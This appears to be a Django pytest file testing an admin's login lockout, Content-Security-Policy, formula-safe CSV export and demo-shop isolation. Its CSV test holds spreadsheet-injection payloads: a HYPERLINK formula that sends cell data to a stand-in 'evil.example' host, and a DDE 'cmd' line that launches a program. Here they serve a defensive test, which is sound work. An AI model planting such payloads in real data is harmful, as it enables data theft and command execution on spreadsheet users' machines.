"""The admin and the HTTP pages in production: login throttling, the
Content-Security-Policy, the CSV export, and the demo shop kept out."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from axes.models import AccessAttempt
from django.contrib.auth import get_user_model
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from tests.factories import ConversationFactory, CustomerFactory, MessageFactory

pytestmark = pytest.mark.django_db

LOGIN = "/admin/login/?next=/admin/"
ATTACKER = "203.0.113.66"
OFFICE = "198.51.100.7"


def log_in(client: Client, password: str, *, address: str) -> Any:
    return client.post(
        LOGIN,
        {"username": "bob", "password": password},
        secure=True,
        REMOTE_ADDR=address,
    )


def logged_in(response: Any) -> bool:
    return response.status_code == 302 and response["Location"] == "/admin/"


# --- login throttling ------------------------------------------------------------


def test_it_locks_out_an_address_after_five_wrong_passwords(bob, settings):
    settings.AXES_FAILURE_LIMIT = 5
    guesses = [log_in(Client(), f"guess-{n}", address=ATTACKER) for n in range(5)]
    assert [r.status_code for r in guesses[:4]] == [200] * 4  # the form, again

    sixth = log_in(Client(), "bob-password-123", address=ATTACKER)

    assert sixth.status_code == 429
    assert not logged_in(sixth)


def test_the_real_user_still_logs_in_from_another_address(bob):
    for n in range(6):
        log_in(Client(), f"guess-{n}", address=ATTACKER)
    assert log_in(Client(), "bob-password-123", address=ATTACKER).status_code == 429

    assert logged_in(log_in(Client(), "bob-password-123", address=OFFICE))


def test_the_lockout_ends_after_the_cool_off(bob, settings):
    for n in range(6):
        log_in(Client(), f"guess-{n}", address=ATTACKER)
    assert log_in(Client(), "bob-password-123", address=ATTACKER).status_code == 429

    # As if the cool-off had passed since the last failure.
    past = settings.AXES_COOLOFF_TIME + timedelta(seconds=1)
    for attempt in AccessAttempt.objects.all():
        attempt.attempt_time -= past
        attempt.save()

    assert logged_in(log_in(Client(), "bob-password-123", address=ATTACKER))


# --- Content-Security-Policy -------------------------------------------------------


def test_it_sends_a_content_security_policy_that_runs_no_inline_script(client):
    response = client.get("/admin/login/", secure=True)
    policy = response["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))

    assert directives["script-src"] == "'self'"
    assert directives["style-src"] == "'self'"
    assert directives["object-src"] == "'none'"
    assert "unsafe" not in policy


# --- CSV export --------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for a refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_it_exports_customer_text_that_a_spreadsheet_never_runs(client, bob):
    bob.is_superuser = True
    bob.save()
    customer = CustomerFactory.create(name="=cmd()", email="@evil.example")
    conversation = ConversationFactory.create(customer=customer)
    for text in [*FORMULAS, "Where is my order - A-1001?"]:
        MessageFactory.create(conversation=conversation, text=text)
    client.force_login(bob)

    response = client.post(
        reverse("admin:chatbot_conversation_changelist"),
        {"action": "export_csv", "_selected_action": [conversation.pk]},
        secure=True,
    )

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [r["text"] for r in rows] == [
        *("'" + f for f in FORMULAS),
        "Where is my order - A-1001?",
    ]
    assert {(r["customer"], r["email"]) for r in rows} == {
        ("'=cmd()", "'@evil.example")
    }


# --- the demo shop -----------------------------------------------------------------


def test_it_serves_the_demo_shop_only_when_demo_is_on(client, settings):
    settings.DEMO = False
    assert client.get("/", secure=True).status_code == 404
    assert client.get("/products/JKT-001/", secure=True).status_code == 404

    settings.DEMO = True
    assert client.get("/", secure=True).status_code == 200


def test_setup_demo_refuses_to_make_a_superuser_in_production(settings):
    settings.DEMO = False
    with pytest.raises(CommandError, match=r"DEBUG=1.*DEMO=1"):
        call_command("setup_demo", "--no-train")
    assert not get_user_model().objects.filter(username="admin").exists()
